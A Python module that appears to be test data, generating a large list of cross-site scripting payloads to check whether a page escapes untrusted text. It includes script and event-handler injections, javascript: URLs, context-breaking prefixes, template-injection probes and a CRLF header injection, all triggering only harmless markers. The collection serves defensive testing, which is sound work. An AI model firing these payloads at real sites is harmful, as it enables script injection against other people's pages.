"""Texts that would run a script on a page which does not escape them. Each sets `window.stolen` or opens a dialog."""

from __future__ import annotations

from itertools import product

_DO = ("alert(1)", "window.stolen=1")
_WHOLE = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button autofocus>x",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<div data-hx-on:load='{}' data-hx-trigger=load data-hx-get=/>",
    "<div hx-on::load='{}'>",
)
_BREAKING = ('"', "'", '">', "'>", "</title>", "</textarea>", "</code>", "-->", "]]>", "\u2028", "`", "${", "{{", "{%")
_AFTER = ("<img src=x onerror={}>", " onmouseover={} x=", "<script>{}</script>", " autofocus onfocus={} ")

PAYLOADS = [
    *(whole.format(do) for whole, do in product(_WHOLE, _DO)),
    *(before + after.format(do) for before, after, do in product(_BREAKING, _AFTER, _DO)),
    *("{{ " + each + " }}" for each in ("7*7", "config", "''.__class__", "view.lw")),
    *(f"javascript:{do}" for do in _DO),
    *(f"{char}<script>{do}</script>" for char, do in product(("\0", "\x1b[31m", "\ufeff", "\u202e", "%00"), _DO)),
    *(f"&lt;script&gt;{do}&lt;/script&gt;" for do in _DO),
    *(f"\\u003cscript\\u003e{do}\\u003c/script\\u003e" for do in _DO),
    *(f"<scr<script>ipt>{do}</scr</script>ipt>" for do in _DO),
    *(f"<img/src=x/onerror={do}//" for do in _DO),
    *(f"data:text/html,<script>{do}</script>" for do in _DO),
    *(f"event: page\ndata: <script>{do}</script>\n\n" for do in _DO),
    *(f"\r\nSet-Cookie: a=b\r\n\r\n<script>{do}</script>" for do in _DO),
]
assert len(PAYLOADS) >= 190
